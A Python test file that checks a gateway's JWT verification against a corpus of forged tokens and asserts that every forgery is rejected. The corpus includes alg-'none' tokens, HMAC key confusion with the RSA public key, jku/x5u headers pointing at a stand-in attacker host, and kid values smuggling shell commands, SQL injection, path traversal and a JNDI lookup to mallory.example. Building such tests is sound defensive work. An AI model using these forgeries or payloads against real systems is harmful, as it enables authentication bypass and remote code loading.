"""Tokens as attackers make them: of this corpus the gateway accepts none, at any of its doors.

Each forgery starts from a token that is good but for what its name says. Mallory has keys of her own, knows
every public key, and has seen one good token.
"""

import hmac
import json
from collections.abc import AsyncIterator, Callable, Mapping
from dataclasses import dataclass, field
from typing import Any, Final
from urllib.parse import urlencode

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.asymmetric.ec import ECDSA
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from hypothesis import given
from hypothesis import strategies as st

from gateway.auth.tokens.exchange import GRANT_TYPE
from gateway.auth.tokens.verifier import Verified
from gateway.core.decision import Deny
from gateway.core.principal import Principal
from tests.support.clock import ManualClock
from tests.support.issuer import AUDIENCE, SigningIssuer, SigningKey, base64url, new_key
from tests.support.token_room import Publications, TokenRoom

NOW: Final = int(ManualClock().now())
P256_ORDER: Final = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


@dataclass
class Scene:
    """An issuer with a key of each kind, another issuer that is believed as well, and Mallory."""

    acme: SigningIssuer
    other: SigningIssuer
    rsa_key: SigningKey
    mallory: SigningKey
    weak: SigningKey
    seen: str = field(init=False)
    """A good token."""

    def __post_init__(self) -> None:
        self.seen = self.acme.token()

    @property
    def ec_key(self) -> SigningKey:
        return self.acme.key

    def by_rsa(self, *, header: Mapping[str, Any] | None = None, **claims: Any) -> str:
        """Signed by acme's RSA key: good, but for what is changed."""
        return self.rsa_key.sign(self.header(self.rsa_key, **(header or {})), self.acme.claims(**claims))

    def by_ec(self, *, header: Mapping[str, Any] | None = None, **claims: Any) -> str:
        return self.ec_key.sign(self.header(self.ec_key, **(header or {})), self.acme.claims(**claims))

    def by_mallory(self, **header: Any) -> str:
        """Signed by her, in acme's name."""
        return self.mallory.sign(self.header(self.ec_key, **header), self.acme.claims())

    @staticmethod
    def header(key: SigningKey, **changes: Any) -> dict[str, Any]:
        return {"alg": key.algorithm, "kid": key.id, "typ": "JWT", **changes}

    def unsigned(self, signature: bytes | str, **header: Any) -> str:
        """A good header and good claims with this for a signature."""
        parts = self.header(self.ec_key, **header), self.acme.claims()
        spelled = signature if isinstance(signature, str) else base64url(signature)
        return ".".join([*(base64url(json.dumps(part).encode()) for part in parts), spelled])

    def with_hmac(self, secret: bytes, algorithm: str = "HS256") -> str:
        """Signed with a secret that everybody knows."""
        digest = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}[algorithm]
        signed = self.unsigned("", alg=algorithm, kid=self.rsa_key.id).rpartition(".")[0]
        return f"{signed}.{base64url(hmac.digest(secret, signed.encode(), digest))}"

    def public(self, encoding: Encoding, form: PublicFormat) -> bytes:
        read: bytes = self.rsa_key.private.public_key().public_bytes(encoding, form)
        return read

    def with_parts(self, change: Callable[[str, str, str], str]) -> str:
        header, claims, signature = self.seen.split(".")
        return change(header, claims, signature)

    def with_signature(self, change: Callable[[int, int], tuple[int, int]]) -> str:
        """The good token, its two numbers changed."""
        data = self.signature
        r, s = change(int.from_bytes(data[:32]), int.from_bytes(data[32:]))
        return self.unsigned(r.to_bytes(32) + s.to_bytes(32))

    @property
    def signature(self) -> bytes:
        signed = self.unsigned("").rpartition(".")[0]
        return self.ec_key.signature(signed.encode())


def _other_tail(signature: str) -> str:
    """The same bytes in another spelling: bits that stand for nothing are set."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return signature[:-1] + alphabet[alphabet.index(signature[-1]) + 1]


def _raw(scene: Scene, header: bytes | None = None, claims: bytes | None = None) -> str:
    """Signed by acme, over exactly these bytes."""
    good_header = json.dumps(scene.header(scene.ec_key)).encode()
    return scene.ec_key.sign(header or good_header, claims or json.dumps(scene.acme.claims()).encode())


def _twice(claims: Mapping[str, Any], name: str, value: Any) -> bytes:
    return json.dumps(claims).encode()[:-1] + f", {json.dumps(name)}: {json.dumps(value)}}}".encode()


Forgery = Callable[[Scene], str]

NONE: Final[dict[str, Forgery]] = {
    f"algorithm {spelling!r} with {what}": (
        lambda scene, spelling=spelling, signature=signature: scene.unsigned(signature, alg=spelling)
    )
    for spelling in ("none", "None", "NONE", "nOnE", "", " none", "none\0", None, [], ["none"], {}, 0, False)
    for what, signature in {"no signature": "", "a signature": b"x" * 64, "one byte": b"x"}.items()
}
SYMMETRIC: Final[dict[str, Forgery]] = {
    f"{algorithm} with the public RSA key in {name}": (
        lambda scene, a=algorithm, e=encoding, f=form: scene.with_hmac(scene.public(e, f), a)
    )
    for algorithm in ("HS256", "HS384", "HS512")
    for name, encoding, form in (
        ("PEM", Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        ("DER", Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        ("PEM of PKCS 1", Encoding.PEM, PublicFormat.PKCS1),
        ("DER of PKCS 1", Encoding.DER, PublicFormat.PKCS1),
    )
} | {
    "HS256 with the PEM without its last newline": lambda scene: scene.with_hmac(
        scene.public(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).strip()
    ),
    "HS256 with the modulus": lambda scene: scene.with_hmac(scene.rsa_key.published["n"].encode()),
    "HS256 with the JWK": lambda scene: scene.with_hmac(json.dumps(scene.rsa_key.published).encode()),
    "HS256 with nothing": lambda scene: scene.with_hmac(b""),
}
BROUGHT_ALONG: Final[dict[str, Forgery]] = {
    "an embedded jwk": lambda s: s.by_mallory(jwk=s.mallory.published),
    "an embedded jwk with the issuer's kid": lambda s: s.by_mallory(
        jwk={**s.mallory.published, "kid": s.ec_key.id}
    ),
    "an embedded jwk in a token that is good": lambda s: s.by_ec(header={"jwk": s.mallory.published}),
    "jku": lambda s: s.by_mallory(jku="https://mallory.example/keys"),
    "jku of the issuer": lambda s: s.by_mallory(jku=f"{s.acme.url}/keys"),
    "jku in a token that is good": lambda s: s.by_ec(header={"jku": f"{s.acme.url}/keys"}),
    "x5u": lambda s: s.by_mallory(x5u="https://mallory.example/cert.pem"),
    "x5u in a token that is good": lambda s: s.by_ec(header={"x5u": "https://acme.example/cert.pem"}),
    "x5c": lambda s: s.by_mallory(x5c=["MIIBszCCAVmgAwIBAgIUAAAA"]),
    "a kid of her own": lambda s: s.by_mallory(kid=s.mallory.id),
    "no kid": lambda s: s.mallory.sign({"alg": "ES256"}, s.acme.claims()),
    "the issuer's kid": lambda s: s.by_mallory(),
    "crit": lambda s: s.by_ec(header={"crit": ["exp"]}),
    "an empty crit": lambda s: s.by_ec(header={"crit": []}),
    "crit that is unknown": lambda s: s.by_ec(header={"crit": ["http://mallory.example/x"]}),
    "b64 false": lambda s: s.by_ec(header={"b64": False, "crit": ["b64"]}),
    "b64 false without crit": lambda s: s.by_ec(header={"b64": False}),
    "zip": lambda s: s.by_ec(header={"zip": "DEF"}),
}
KEY_IDS: Final[dict[str, Forgery]] = {
    f"the kid {str(kid)[:40]!r}": lambda scene, kid=kid: scene.by_mallory(kid=kid)
    for kid in (
        *(
            "../../dev/null",
            "/dev/null",
            "file:///dev/null",
            "..\\..\\nul",
            "x' UNION SELECT 'key",
            "' OR 1=1 --",
        ),
        *(
            "https://mallory.example/keys",
            "|id",
            "$(id)",
            "${jndi:ldap://mallory.example}",
            "",
            "\0",
            "a" * 10_000,
        ),
        *(None, 0, 1.5, True, [], ["key"], {"kid": "key"}),
    )
} | {
    "the kid of the issuer's key, twice": lambda s: s.by_mallory(kid=[s.ec_key.id, s.ec_key.id]),
    "the kid of the issuer's key and a NUL": lambda s: s.by_ec(header={"kid": f"{s.ec_key.id}\0"}),
    "a kid of 10 kB in a token that is good": lambda s: s.by_ec(header={"kid": s.ec_key.id + "a" * 10_000}),
}
CONFUSION: Final[dict[str, Forgery]] = {
    "ES256 with the RSA key": lambda s: s.rsa_key.sign(s.header(s.rsa_key, alg="ES256"), s.acme.claims()),
    "RS256 with the EC key": lambda s: s.ec_key.sign(s.header(s.ec_key, alg="RS256"), s.acme.claims()),
    "ES384 with a P-256 key": lambda s: s.by_ec(header={"alg": "ES384"}),
    "an algorithm that the issuer does not use": lambda s: SigningKey(
        s.rsa_key.id, "RS512", s.rsa_key.private
    ).sign(s.header(s.rsa_key, alg="RS512"), s.acme.claims()),
    "PS256 for RS256": lambda s: SigningKey(s.rsa_key.id, "PS256", s.rsa_key.private).sign(
        s.header(s.rsa_key), s.acme.claims()
    ),
    "an algorithm in lower case": lambda s: s.by_ec(header={"alg": "es256"}),
    "an algorithm in a list": lambda s: s.by_ec(header={"alg": ["ES256"]}),
    "no algorithm": lambda s: s.ec_key.sign({"kid": s.ec_key.id}, s.acme.claims()),
    "a published RSA key of 1024 bits": lambda s: s.weak.sign(s.header(s.weak), s.acme.claims()),
    "the key of another issuer": lambda s: s.other.key.sign(s.header(s.other.key), s.acme.claims()),
    "the key of another issuer under this one's kid": lambda s: s.other.key.sign(
        s.header(s.ec_key), s.acme.claims()
    ),
    "another issuer's name under this one's key": lambda s: s.by_ec(iss=s.other.url),
}
ISSUERS: Final[dict[str, Forgery]] = {
    f"the issuer {what}": lambda s, change=change: s.by_ec(iss=change(s.acme.url))
    for what, change in {
        "with a trailing slash": lambda url: f"{url}/",
        "in capitals": lambda url: url.upper(),
        "with one capital": lambda url: url.replace("https", "Https"),
        "as a prefix": lambda url: f"{url}.mallory.example",
        "as a suffix": lambda url: f"https://mallory.example/{url}",
        "cut short": lambda url: url[:-1],
        "without https": lambda url: url.replace("https", "http"),
        "with a space": lambda url: f"{url} ",
        "with a NUL": lambda url: f"{url}\0",
        "with a user": lambda url: url.replace("https://", "https://mallory@"),
        "in a list": lambda url: [url],
        "missing": lambda url: None,
        "empty": lambda url: "",
        "that is a number": lambda url: 0,
    }.items()
}
CLAIMS: Final[dict[str, Forgery]] = {
    f"{name} {value!r:.60}": lambda s, name=name, value=value: s.by_ec(**{name: value})
    for name, values in {
        "aud": [
            *(
                "another",
                AUDIENCE.upper(),
                AUDIENCE[:-1],
                AUDIENCE[1:],
                f"{AUDIENCE}x",
                f"{AUDIENCE},x",
                f"{AUDIENCE} ",
            ),
            *(
                None,
                "",
                [],
                ["another"],
                [[AUDIENCE]],
                {AUDIENCE: True},
                [None, 1],
                True,
                "*",
                f"{AUDIENCE}\0",
            ),
        ],
        "exp": [
            *(
                None,
                NOW - 30,
                NOW - 86_400,
                0,
                -1,
                NOW + 60.5,
                float(NOW + 60),
                str(NOW + 60),
                True,
                [NOW + 60],
            ),
            *(NOW + 86_401, NOW + 315_360_000, 2**63, 10**30, 10**300, {"$gt": 0}),
        ],
        "iat": [None, NOW + 31, NOW + 600, -1, str(NOW), float(NOW), False, [], 10**30, NOW - 86_401],
        "nbf": [NOW + 31, 2**62, 10**30, str(NOW), float(NOW), True, [], {}],
    }.items()
    for value in values
} | {
    "iat in the future although nbf is not": lambda s: s.by_ec(iat=NOW + 31, nbf=NOW),
    "exp before iat": lambda s: s.by_ec(iat=NOW + 20, exp=NOW + 10),
    "expired under the RSA key": lambda s: s.by_rsa(iat=NOW - 600, exp=NOW - 30),
    "a NUL in the user": lambda s: s.by_ec(sub="alice\0admin"),
    "a NUL in the team": lambda s: s.by_ec(team="search\0"),
    "a line break in the user": lambda s: s.by_ec(sub="alice\nteam: admin"),
    "a team in a list": lambda s: s.by_ec(team=["search"]),
    "no user": lambda s: s.by_ec(sub=None),
    "no team": lambda s: s.by_ec(team=None),
}
TYPES: Final[dict[str, Forgery]] = {
    f"the type {kind!r}": lambda s, kind=kind: s.by_ec(header={"typ": kind})
    for kind in (
        "logout+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "JWE",
        "",
        "application/",
        "JWT ",
        "x/JWT",
        1,
        [],
        ["JWT"],
    )
}
FORMS: Final[dict[str, Forgery]] = {
    "claims changed under the signature": lambda s: s.with_parts(
        lambda head, _, tail: f"{head}.{base64url(json.dumps(s.acme.claims(sub='admin')).encode())}.{tail}"
    ),
    "the signature cut": lambda s: s.seen[:-4],
    "the signature cut by a character": lambda s: s.seen[:-1],
    "the signature longer": lambda s: f"{s.seen}AAAA",
    "an empty signature": lambda s: s.with_parts(lambda head, claims, _: f"{head}.{claims}."),
    "no signature": lambda s: s.with_parts(lambda head, claims, _: f"{head}.{claims}"),
    "a fourth part": lambda s: f"{s.seen}.AAAA",
    "an empty fourth part": lambda s: f"{s.seen}.",
    "an empty part before": lambda s: f".{s.seen}",
    "five parts, as an encrypted token has": lambda s: f"{s.seen}.AAAA.AAAA",
    "an encrypted token": lambda s: ".".join(
        [
            base64url(b'{"alg":"RSA-OAEP","enc":"A256GCM"}'),
            *map(base64url, [b"k" * 256, b"i" * 12, b"text", b"t" * 16]),
        ]
    ),
    "the JSON form of a signed token": lambda s: json.dumps(
        {"payload": s.seen.split(".")[1], "signatures": []}
    ),
    "padding": lambda s: f"{s.seen}==",
    "padding inside": lambda s: s.with_parts(lambda head, claims, tail: f"{head}=.{claims}.{tail}"),
    "a line break at the end": lambda s: f"{s.seen}\n",
    "a space before": lambda s: f" {s.seen}",
    "a space inside": lambda s: s.with_parts(lambda head, claims, tail: f"{head}. {claims}.{tail}"),
    "a NUL at the end": lambda s: f"{s.seen}\0",
    "the other base64 alphabet": lambda s: s.with_parts(
        lambda head, claims, tail: f"{head}.{claims}.+/{tail[2:]}"
    ),
    "the same signature in another spelling": lambda s: s.with_parts(
        lambda head, claims, tail: f"{head}.{claims}.{_other_tail(tail)}"
    ),
    "letters that are not ASCII": lambda s: f"{s.seen[:-1]}\uff21",
    "a token in a token": lambda s: s.ec_key.sign(s.header(s.ec_key, cty="JWT"), s.seen.encode()),
    "a token in a token's JSON": lambda s: s.ec_key.sign(
        s.header(s.ec_key, cty="JWT"), json.dumps(s.seen).encode()
    ),
    "a huge token": lambda s: s.by_ec(padding="a" * 20_000),
    "a token of a megabyte": lambda s: f"{s.seen}{'A' * 1_000_000}",
    "an absurdly deep token": lambda s: _raw(s, claims=b'{"a":' * 2_000 + b"1" + b"}" * 2_000),
    "nothing": lambda s: "",
    "dots": lambda s: "..",
    "a word": lambda s: "eyJ",
    "Bearer before it": lambda s: f"Bearer {s.seen}",
}
REPEATED: Final[dict[str, Forgery]] = {
    "the user twice": lambda s: _raw(s, claims=_twice(s.acme.claims(), "sub", "admin")),
    "the issuer twice": lambda s: _raw(s, claims=_twice(s.acme.claims(iss=s.other.url), "iss", s.acme.url)),
    "the expiry twice": lambda s: _raw(s, claims=_twice(s.acme.claims(exp=1), "exp", NOW + 60)),
    "the audience twice": lambda s: _raw(s, claims=_twice(s.acme.claims(aud="x"), "aud", AUDIENCE)),
    "a name twice deep inside": lambda s: _raw(
        s, claims=json.dumps(s.acme.claims()).encode()[:-1] + b', "x": [{"a": 1, "a": 2}]}'
    ),
    "a name twice, once escaped": lambda s: _raw(
        s, claims=json.dumps(s.acme.claims()).encode()[:-1] + b', "\\u0073ub": "admin"}'
    ),
    "the algorithm twice": lambda s: _raw(
        s, header=_twice({**s.header(s.ec_key), "alg": "none"}, "alg", "ES256")
    ),
    "the kid twice": lambda s: _raw(s, header=_twice({**s.header(s.ec_key), "kid": "x"}, "kid", s.ec_key.id)),
    "claims with a byte order mark": lambda s: _raw(
        s, claims=b"\xef\xbb\xbf" + json.dumps(s.acme.claims()).encode()
    ),
    "claims in UTF-16": lambda s: _raw(s, claims=json.dumps(s.acme.claims()).encode("utf-16")),
    "claims that are no UTF-8": lambda s: _raw(
        s, claims=json.dumps(s.acme.claims()).encode()[:-1] + b', "x": "\xff"}'
    ),
    "claims with half a surrogate": lambda s: _raw(s, claims=json.dumps(s.acme.claims(x="\ud800")).encode()),
    "claims with NaN": lambda s: _raw(s, claims=json.dumps(s.acme.claims(x=float("nan"))).encode()),
    "claims and more": lambda s: _raw(s, claims=json.dumps(s.acme.claims()).encode() + b"{}"),
    "claims in a list": lambda s: _raw(s, claims=json.dumps([s.acme.claims()]).encode()),
}
CURVES: Final[dict[str, Forgery]] = {
    "a signature of zeros": lambda s: s.unsigned(bytes(64)),
    "r is zero": lambda s: s.with_signature(lambda r, n: (0, n)),
    "s is zero": lambda s: s.with_signature(lambda r, n: (r, 0)),
    "r and s are one": lambda s: s.with_signature(lambda r, n: (1, 1)),
    "r and s are the order": lambda s: s.with_signature(lambda r, n: (P256_ORDER, P256_ORDER)),
    "r is beyond the order": lambda s: s.with_signature(lambda r, n: (2**256 - 1, n)),
    "s is the order less one": lambda s: s.with_signature(lambda r, n: (r, P256_ORDER - 1)),
    "r is negated": lambda s: s.with_signature(lambda r, n: (P256_ORDER - r, n)),
    "r and s change places": lambda s: s.with_signature(lambda r, n: (n, r)),
    "a signature in DER": lambda s: s.unsigned(s.ec_key.private.sign(b"x", ECDSA(SHA256()))),
    "zeros for an RSA signature": lambda s: s.unsigned(bytes(256), alg="RS256", kid=s.rsa_key.id),
    "one for an RSA signature": lambda s: s.unsigned(bytes(255) + b"\1", alg="RS256", kid=s.rsa_key.id),
    "the modulus for an RSA signature": lambda s: s.unsigned(
        s.rsa_key.private.public_key().public_numbers().n.to_bytes(256), alg="RS256", kid=s.rsa_key.id
    ),
}
CORPUS: Final = {
    **NONE,
    **SYMMETRIC,
    **BROUGHT_ALONG,
    **KEY_IDS,
    **CONFUSION,
    **ISSUERS,
    **CLAIMS,
    **TYPES,
    **FORMS,
    **REPEATED,
    **CURVES,
}


def a_scene() -> Scene:
    clock = ManualClock()
    acme = SigningIssuer(clock=clock)
    other = SigningIssuer("https://other.example", name="other", clock=clock)
    rsa_key = new_key("RS256")
    weak = SigningKey("weak", "RS256", rsa.generate_private_key(65_537, 1024))
    acme.keys = [acme.key, rsa_key, weak]
    return Scene(acme, other, rsa_key, new_key("ES256"), weak)


SCENE: Final = a_scene()


@pytest.fixture
def room() -> TokenRoom:
    published = Publications(SCENE.acme, SCENE.other)
    issuers = [each.believed(exchange_seconds=600) for each in (SCENE.acme, SCENE.other)]
    return TokenRoom(*issuers, fetch=published.fetch, clock=ManualClock())


async def doors_open_for(token: str, room: TokenRoom) -> AsyncIterator[str]:
    """Which of the doors let it in."""
    if isinstance(await room.authenticator.authenticate(token), Principal):
        yield "the clients' port"
    if isinstance(room.exchanged.opened(token), Principal):
        yield "the exchange's keys"
    fields = {"grant_type": GRANT_TYPE, "subject_token": token}
    fields["subject_token_type"] = "urn:ietf:params:oauth:token-type:jwt"
    status, _ = await room.exchange.answer(urlencode(fields).encode())
    if status == 200:
        yield "the exchange"


@pytest.mark.parametrize(
    "good",
    [
        SCENE.by_ec,
        SCENE.by_rsa,
        SCENE.other.token,
        lambda: _raw(SCENE),
        lambda: SCENE.unsigned(SCENE.signature),
    ],
)
async def test_what_the_forgeries_start_from_is_good(room: TokenRoom, good: Callable[[], str]) -> None:
    opened = [door async for door in doors_open_for(good(), room)]
    assert opened == ["the clients' port", "the exchange"]


@pytest.mark.parametrize("forgery", CORPUS.values(), ids=CORPUS.keys())
async def test_a_forgery_opens_no_door(room: TokenRoom, forgery: Forgery) -> None:
    assert [door async for door in doors_open_for(forgery(SCENE), room)] == []


async def test_of_all_forgeries_in_a_row_none_is_accepted(room: TokenRoom) -> None:
    """With one memory for all of them, and good tokens between."""
    for forgery in CORPUS.values():
        assert isinstance(await room.authenticator.authenticate(SCENE.seen), Principal)
        assert isinstance(await room.authenticator.authenticate(forgery(SCENE)), Deny)


BY_RSA: Final = SCENE.by_rsa()


@given(
    st.sampled_from([SCENE.seen, BY_RSA]).flatmap(
        lambda token: st.tuples(st.just(token), st.integers(0, len(token) - 1), st.integers(0, 255))
    )
)
async def test_no_byte_of_a_token_can_be_another(change: tuple[str, int, int]) -> None:
    token, place, byte = change
    changed = token[:place] + chr(byte) + token[place + 1 :]
    if changed != token:
        assert not isinstance(await a_room().verifier.verified(changed), Verified)


def a_room() -> TokenRoom:
    published = Publications(SCENE.acme)
    return TokenRoom(SCENE.acme.believed(), fetch=published.fetch, clock=ManualClock())


async def test_the_other_ecdsa_signature_of_the_same_claims_says_the_same(room: TokenRoom) -> None:
    """Of every ECDSA signature (r, s) there is a second one, (r, -s), which anybody can write. Issuers sign
    with either, so neither can be refused; it says what the issuer said, and is taken back as that is.
    """
    twin = SCENE.with_signature(lambda r, s: (r, P256_ORDER - s))
    first = await room.authenticator.authenticate(SCENE.unsigned(SCENE.signature))
    second = await room.authenticator.authenticate(twin)
    assert isinstance(first, Principal)
    assert second == first
